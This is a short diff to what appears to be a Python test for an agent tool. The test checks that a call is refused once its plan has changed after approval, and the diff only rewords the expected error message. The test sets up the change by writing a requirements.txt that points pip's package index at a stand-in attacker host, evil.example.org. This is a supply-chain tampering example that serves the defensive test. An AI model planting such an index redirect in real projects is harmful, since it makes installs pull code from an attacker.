@@ -77,7 +77,7 @@ async def test_call_whose_plan_changed_since_the_question_is_refused(house: Work
 
     (house.root / "requirements.txt").write_text("--index-url https://evil.example.org/simple\nlamp\n")
 
-    with pytest.raises(ToolError, match="has changed since it was decided"):
+    with pytest.raises(ToolError, match="has changed since it was allowed"):
         async for _ in tool.run(args, ctx):
             pass
 
